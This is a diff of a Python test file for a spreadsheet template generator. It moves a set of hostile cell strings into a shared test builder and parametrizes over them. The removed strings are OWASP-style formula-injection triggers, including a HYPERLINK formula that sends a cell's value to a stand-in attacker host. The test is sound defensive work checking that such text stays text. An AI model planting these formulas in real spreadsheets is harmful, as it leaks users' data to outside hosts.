@@ -11,6 +11,7 @@ from python_calamine import CalamineWorkbook
 
 from grassroots.catalog import load_catalog
 from grassroots.template import write_template
+from tests.builders import HOSTILE_CELL_TEXT
 
 FORMS = load_catalog().forms
 VILLAGE = FORMS["village_annual"]
@@ -176,19 +177,9 @@ def test_no_units_still_a_valid_file(tmp_path: Path) -> None:
 
 # --- text from registers and returns stays text ------------------------------------------
 
-# OWASP's formula triggers at the start of a text, and openpyxl's error codes.
-HOSTILE = {
-    "equals": '=HYPERLINK("http://evil.example/?"&A1,"核对")',
-    "plus": "+1+1",
-    "minus": "-1+1",
-    "at": "@SUM(1+1)",
-    "tab": "\t=1+1",
-    "carriage-return": "\r=1+1",
-    "error-code": "#N/A",
-}
 
 
-@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
+@pytest.mark.parametrize("text", HOSTILE_CELL_TEXT.values(), ids=HOSTILE_CELL_TEXT.keys())
 def test_a_register_name_like_a_formula_is_text_in_the_template(tmp_path: Path, text: str) -> None:
     """The register's village name, the unit's name in meta and a typed value of a filled
     return: string cells holding that very text, read back so by openpyxl, calamine and the
